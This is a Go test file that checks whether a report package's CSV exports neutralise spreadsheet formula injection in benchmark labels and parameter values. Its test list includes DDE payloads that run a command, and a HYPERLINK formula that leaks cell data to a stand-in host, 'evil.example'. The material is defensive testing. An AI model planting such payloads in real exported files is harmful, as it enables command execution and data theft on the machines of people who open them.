package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// injections are labels a spreadsheet would run as formulas (CSV
// injection): each must come out of the CSV as text.
var injections = []string{
	`=cmd|' /C calc'!A0`,
	`+HYPERLINK("http://evil.example/?x="&A1,"click")`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// readCSV parses an export as a spreadsheet would, failing on a CSV that
// is not well formed.
func readCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not well-formed CSV: %v\n%s", err, data)
	}
	return rows
}

// TestHyperfineCSVNeutralisesFormulas: a command that begins with =, +,
// -, @, a tab or a carriage return is written with a leading ', quoted
// where it needs it, and the numbers beside it are left as they are.
func TestHyperfineCSVNeutralisesFormulas(t *testing.T) {
	for _, label := range injections {
		r := loadFixture(t, "seed.json")
		r.Candidate("A").Label = label
		r.Candidate("B").Label = "plain, with a comma"
		var b bytes.Buffer
		if err := HyperfineCSV(&b, r); err != nil {
			t.Fatal(err)
		}
		rows := readCSV(t, b.Bytes())
		if len(rows) != 3 {
			t.Fatalf("%q: %d rows, want a header and A and B", label, len(rows))
		}
		if got := rows[1][0]; got != "'"+label {
			t.Errorf("command cell %q, want %q", got, "'"+label)
		}
		if got := rows[2][0]; got != "plain, with a comma" {
			t.Errorf("a harmless label became %q", got)
		}
		for _, cell := range rows[1][1:] {
			if strings.HasPrefix(cell, "'") {
				t.Errorf("%q: a number cell became text: %q", label, cell)
			}
		}
	}
}

// TestSweepHyperfineCSVParameters: a parameter's value is the user's too:
// a formula is neutralised, a negative number is not.
func TestSweepHyperfineCSVParameters(t *testing.T) {
	s := loadSweepFixture(t)
	vals := []string{"-5", "=1+1", "-1.5e3", "@A1", "+7"}
	want := []string{"-5", "'=1+1", "-1.5e3", "'@A1", "+7"}
	var shown []string
	for i, pt := range s.Points {
		pt.Values["n"] = vals[i%len(vals)]
		if pt.Result != nil {
			shown = append(shown, want[i%len(want)])
		}
	}
	var b bytes.Buffer
	if err := SweepHyperfineCSV(&b, s); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, b.Bytes())
	if rows[0][len(rows[0])-1] != "parameter_n" {
		t.Fatalf("header %v, want parameter_n last", rows[0])
	}
	// Two candidates a point, in point order.
	var got []string
	for _, row := range rows[1:] {
		if v := row[len(row)-1]; len(got) == 0 || got[len(got)-1] != v {
			got = append(got, v)
		}
	}
	if strings.Join(got, " ") != strings.Join(shown, " ") {
		t.Errorf("parameter cells %q, want %q", got, shown)
	}
}

func TestCSVText(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"python -c pass", "python -c pass"},
		{"=1+1", "'=1+1"},
		{"-O2 build", "'-O2 build"},
		{"-5", "-5"},
		{"+1e-3", "+1e-3"},
		{"\tx", "'\tx"},
		{"x=1", "x=1"},
	} {
		if got := csvText(tt.in); got != tt.want {
			t.Errorf("csvText(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
